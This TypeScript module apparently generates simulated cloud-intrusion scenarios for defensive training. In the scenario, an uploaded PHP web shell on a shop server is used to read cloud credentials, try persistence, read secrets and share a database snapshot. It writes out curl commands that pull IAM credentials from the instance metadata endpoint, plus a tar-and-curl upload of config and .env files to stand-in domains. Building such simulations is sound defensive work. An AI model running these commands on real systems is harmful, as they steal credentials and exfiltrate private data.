import { day, hour, minute, second } from '../clock.ts'
import type { Caller } from '../cloud.ts'
import { webShellNotes } from '../notes/web-shell.ts'
import { instanceSession } from '../ordinary/workloads.ts'
import { chanceOf } from '../random.ts'
import type { World } from '../world.ts'
import { acts } from './acts.ts'
import { answerWebShell } from './answer-web-shell.ts'
import { assumeRole, cloudAgents, lookAround, type Pace, paces, readObjects, readSecrets, shareSnapshot, touchLogging } from './intruder.ts'
import { momentsOf } from './milestones.ts'
import { addressType, createTeller, type Story, systemOf, type Teller } from './story.ts'
import { browse, type Shell, shellCommands, sideways, uploadShell } from './web-shell-host.ts'

/** What this seed's story is about. */
export interface WebShellPlot {
  readonly scanner: string
  readonly address: string
  readonly cloudAddress: string
  readonly browser: string
  readonly agent: string
  readonly file: string
  readonly parameter: string
  readonly pace: Pace
  readonly bucket: string
  readonly objects: number
  readonly shares: boolean
  readonly outside: string
  readonly takesRole: boolean
  readonly account: 'deploy' | 'backup'
  readonly domain: string
}

/** What came of it. */
export interface WebShellOutcome {
  readonly shell: Shell
  readonly firstUse: number
  readonly credentialsAt: number
  readonly lastAct: number
  readonly secrets: readonly string[]
  readonly snapshot: string | undefined
  readonly role: string | undefined
  readonly bytes: number
  readonly logging: { readonly what: string; readonly worked: boolean } | undefined
  readonly sentAt: number | undefined
}

/** An upload of the shop takes a script; with it the machine's cloud credentials are read and used from elsewhere. */
export function webShell(world: World): Story {
  const plot = plotOf(world)
  const chance = chanceOf(world.seed, 'web-shell', 'times')
  const teller = createTeller(world, world.start + 5 * day + chance.between(4, 38) * hour + chance.between(0, 3_599) * second)
  const outcome = intrude(teller, plot)
  const milestones = answerWebShell(teller, plot, outcome)
  return {
    entries: teller.entries,
    path: teller.path,
    indicators: [...teller.indicators.values()],
    moments: momentsOf(teller.entries, milestones),
    notes: webShellNotes({ world, plot, outcome, milestones }),
  }
}

function plotOf(world: World): WebShellPlot {
  const chance = chanceOf(world.seed, 'web-shell', 'plot')
  const address = chance.odds(0.25) ? world.addresses.takeWide() : world.addresses.take()
  const name = chance.hex(8)
  return {
    scanner: chance.odds(0.4) ? address : world.addresses.take(),
    address,
    cloudAddress: chance.odds(0.4) ? address : world.addresses.take(),
    browser: chance.pick([
      'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0',
      'curl/8.7.1',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.71 Safari/537.36',
    ]),
    agent: chance.pick(cloudAgents),
    file: chance.pick([`/uploads/docs/${name}.php`, `/media/avatars/${name}.phtml`, `/files/tmp/${name}.php`, `/uploads/${name}.php`]),
    parameter: chance.pick(['cmd', 'c', 'q', 'exec', 'x']),
    pace: chance.pick(paces),
    bucket: chance.pick(['fernweh-travel-documents', 'fernweh-bookings']),
    objects: chance.between(40, 66),
    shares: chance.odds(0.6),
    outside: `9${chance.between(10_000_000_000, 99_999_999_999)}`,
    takesRole: chance.odds(0.5),
    account: chance.pick(['deploy', 'backup'] as const),
    domain: chance.pick(['drop.file-relay.example', 'sync.img-store.example', 'in.cdn-push.example']),
  }
}

function intrude(teller: Teller, plot: WebShellPlot): WebShellOutcome {
  const { chance } = teller
  const { pace } = plot
  const shell = uploadShell(teller, plot)
  teller.wait(...pace.pause)
  const firstUse = teller.now()
  teller.step(plot.address, 'www-data on web01', 'Commands to an uploaded script', 'www-data')
  browse(teller, plot, shellCommands(chance).slice(0, chance.between(14, 19)))
  teller.wait(...pace.pause)
  let stolen = steal(teller, plot)
  const credentialsAt = stolen.at
  teller.wait(...pace.pause)
  lookAround(teller, { by: stolen.caller, calls: chance.between(14, 20), pace, refused: true })
  teller.wait(...pace.pause)
  stolen = renew(teller, plot, stolen)
  const role = plot.takesRole
    ? assumeRole(teller, { by: stolen.caller, role: chance.pick(['data-platform', 'ops-maintenance']), session: 'sdk' })
    : tryPersistence(teller, stolen.caller, pace)
  const by = role ?? stolen.caller
  const names = chance
    .shuffle(['shop/database', 'shop/payment-provider', 'partner/flight-search', 'mail/relay', 'jobs/signing-key'])
    .slice(0, chance.between(3, 5))
  readSecrets(teller, { by, names, pace })
  teller.wait(...pace.pause)
  const logging = chance.odds(0.4) ? touchLogging(teller, { by, allowed: role !== undefined }) : undefined
  const hostFirst = chance.odds(0.5)
  if (hostFirst) sideways(teller, plot)
  const taken = take(teller, plot, by)
  if (!hostFirst) sideways(teller, plot)
  const sentAt = chance.odds(0.6) ? send(teller, plot) : undefined
  return { shell, firstUse, credentialsAt, secrets: names, role: role?.role, logging, ...taken, sentAt, lastAct: teller.now() }
}

interface Stolen {
  readonly caller: Caller
  readonly at: number
}

/** Asks the machine's own metadata for the role's credentials, and uses them from elsewhere. */
function steal(teller: Teller, plot: WebShellPlot): Stolen {
  const { world } = teller
  browse(teller, plot, [
    [acts.instanceKey, 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
    [acts.instanceKey, 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-web'],
  ])
  const at = teller.now()
  const session = instanceSession(world, { instance: 'web01', at })
  teller.indicator('aws-key-id', session.key)
  teller.indicator(addressType(plot.cloudAddress), plot.cloudAddress)
  teller.indicator('user-agent', plot.agent)
  teller.step('www-data on web01', 'shop-web', 'Credentials of the machine’s role read from its metadata', 'shop-web')
  return { caller: { ...session, address: plot.cloudAddress, agent: plot.agent }, at }
}

/** Credentials of a machine end after some hours; whoever works slowly asks again. */
function renew(teller: Teller, plot: WebShellPlot, stolen: Stolen): Stolen {
  const ends = (stolen.caller.since ?? stolen.at) + 6 * hour
  return teller.now() > ends - 30 * minute ? steal(teller, plot) : stolen
}

/** The machine's role may not make identities; it is tried all the same. */
function tryPersistence(teller: Teller, by: Caller, pace: Pace): undefined {
  const refused = { error: 'AccessDenied', readOnly: false }
  teller.cloud(acts.user, by, ['iam', 'CreateUser', { request: { userName: 'svc-cache' }, ...refused }])
  teller.wait(...pace.call)
  teller.cloud(acts.addKey, by, ['iam', 'CreateAccessKey', { request: {}, ...refused }])
  teller.wait(...pace.call)
}

function take(teller: Teller, plot: WebShellPlot, by: Caller): Pick<WebShellOutcome, 'snapshot' | 'bytes'> {
  const { pace } = plot
  teller.wait(...pace.call)
  const bytes = readObjects(teller, { by, bucket: plot.bucket, prefix: '', count: plot.objects, pace })
  if (!plot.shares || by.role === 'shop-web') return { bytes, snapshot: undefined }
  teller.wait(...pace.pause)
  const { snapshot } = shareSnapshot(teller, { by, outside: plot.outside, kind: 'database', name: 'customers', pace })
  teller.step(systemOf(by), `Account ${plot.outside}`, 'Database snapshot shared', by.role ?? '')
  return { bytes, snapshot }
}

function send(teller: Teller, plot: WebShellPlot): number {
  teller.wait(...plot.pace.call)
  browse(teller, plot, [
    [acts.archive, 'tar czf /tmp/.s.tgz /var/www/shop/config /var/www/shop/.env'],
    [acts.send, `curl -s -T /tmp/.s.tgz http://${plot.domain}/u/`],
  ])
  teller.indicator('domain', plot.domain)
  return teller.now()
}
